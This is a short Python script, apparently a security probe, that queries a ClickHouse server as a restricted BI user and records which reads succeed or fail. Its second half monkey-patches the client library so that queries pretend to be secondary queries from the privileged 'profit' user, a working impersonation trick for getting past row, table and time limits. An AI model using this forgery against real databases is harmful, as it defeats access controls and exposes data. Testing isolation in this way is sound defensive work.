"""Reads the views over the native protocol and tries to see more: native_client.py PORT PASSWORD. Prints JSON."""

import json
import sys

from clickhouse_driver import Client
from clickhouse_driver.clientinfo import ClientInfo


def connect():
    return Client('127.0.0.1', port=int(sys.argv[1]), user='bi_a', password=sys.argv[2], database='bi')


def ask(client, query, **settings):
    try:
        return [[str(value) for value in row] for row in client.execute(query, settings=settings)]
    except Exception as error:
        return str(error)


client = connect()
said = {
    'tables': [name for (name,) in client.execute('SHOW TABLES')],
    'metrics': ask(client, 'SELECT day, revenue, orders, aov FROM daily_metrics'),
    'base': ask(client, 'SELECT * FROM profit.orders'),
    'setting': ask(client, 'SELECT * FROM orders', query_cache_tag='b'),
}

# As if another server passed on a query of the service's own user.
honest = ClientInfo.__init__


def forged(self, *args, **kwargs):
    honest(self, *args, **kwargs)
    self.query_kind = ClientInfo.QueryKind.SECONDARY_QUERY
    self.initial_user = 'profit'


ClientInfo.__init__ = forged
client = connect()
said['forged_user'] = ask(client, 'SELECT currentUser(), shop_id FROM daily_metrics')
said['forged_base'] = ask(client, 'SELECT * FROM profit.orders')
said['forged_setting'] = ask(client, 'SELECT * FROM daily_metrics', query_cache_tag='b')
said['forged_limit'] = ask(client, 'SELECT 1', max_execution_time=0)
print(json.dumps(said))
